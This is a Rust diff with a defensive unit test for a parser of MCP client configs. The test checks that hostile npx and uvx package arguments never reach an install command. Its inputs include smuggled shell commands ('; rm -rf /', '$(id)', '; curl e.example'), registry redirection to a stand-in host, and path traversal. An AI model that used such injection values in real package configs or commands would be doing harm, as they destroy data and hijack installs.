@@ -153,7 +153,7 @@ pub(in crate::cli) fn from_client(text: &str, source: &Path) -> Result<Vec<Pin>>
 }
 
 fn client_server(text: &str, name: &str, raw: &RawValue, origin: &str) -> Result<What> {
-    let value: Value = serde_json::from_str(raw.get())
+    let value: Value = crate::canon::value_from_str(raw.get())
         .map_err(|e| Error::new(format!("{origin}: server `{}`: {e}", name.escape_debug())))?;
     // The client's own reading: the transport, and whether it carries a credential.
     let doc = serde_json::json!({ "mcpServers": { name: value.clone() } });
@@ -513,5 +513,54 @@ mod tests {
         }
         assert!(matches!(&pins[1].what, What::NotChecked(w) if w.contains("local command")));
         assert!(matches!(&pins[2].what, What::NotChecked(w) if w.contains("HTTP")));
+    }
+
+    /// Adversarial round four: a hostile repository's client config names packages
+    /// npm or uv would read as something else (an alias, a URL, a path, a flag, a
+    /// second argument, a direct reference). Each is no pin, or a pin whose name and
+    /// version are plain: nothing reaches an install's argv but a name and a version.
+    #[test]
+    fn hostile_package_arguments_are_no_pin_or_a_plain_one() {
+        let plain = |s: &str| {
+            !s.is_empty()
+                && !s.contains("..")
+                && s.chars()
+                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '@' | '/'))
+        };
+        for (cmd, args) in [
+            ("npx", s(&["-y", "x@npm:evil@1.0.0"])),
+            ("npx", s(&["-y", "@a/../b@1.0.0"])),
+            ("npx", s(&["-y", "../x@1.0.0"])),
+            ("npx", s(&["-y", "git+https://e.example/x.git"])),
+            ("npx", s(&["-y", "https://e.example/x.tgz"])),
+            ("npx", s(&["-y", "file:../x"])),
+            ("npx", s(&["-y", "x@1.0.0 ; rm -rf /"])),
+            ("npx", s(&["-y", "x@1.0.0\n"])),
+            ("npx", s(&["-y", "X@1.0.0"])),
+            ("npx", s(&["-y", "--registry=http://e.example", "x@1.0.0"])),
+            ("npx", s(&["-y", "-p", "evil", "x@1.0.0"])),
+            ("npx", s(&["-y", "x@github:e/x"])),
+            ("npx", s(&["-y", "@x@1.0.0"])),
+            ("npx", s(&["-y", "x@$(id)"])),
+            ("uvx", s(&["z==1.0; curl e.example"])),
+            ("uvx", s(&["z[extra]==1.0"])),
+            ("uvx", s(&["z @ https://e.example/z.whl"])),
+            ("uvx", s(&["z==1.0 --index-url http://e.example"])),
+            ("uvx", s(&["--from", "git+https://e.example/z", "z"])),
+            ("uvx", s(&["--from", "z==1.0", "--with", "evil"])),
+            ("uvx", s(&["../z==1.0"])),
+            ("uvx", s(&["z==1.0+local"])),
+            ("uvx", s(&["z@1.0/../../x"])),
+        ] {
+            if let Some(p) = package_spec(cmd, &args) {
+                assert!(plain(&p.package.name), "{cmd} {args:?}: {:?}", p.package);
+                if let Version::Exact(v) | Version::Range(v) = &p.version {
+                    assert!(
+                        !v.contains("..") && !v.contains('/') && !v.contains('\n'),
+                        "{cmd} {args:?}: {v:?}"
+                    );
+                }
+            }
+        }
     }
 }
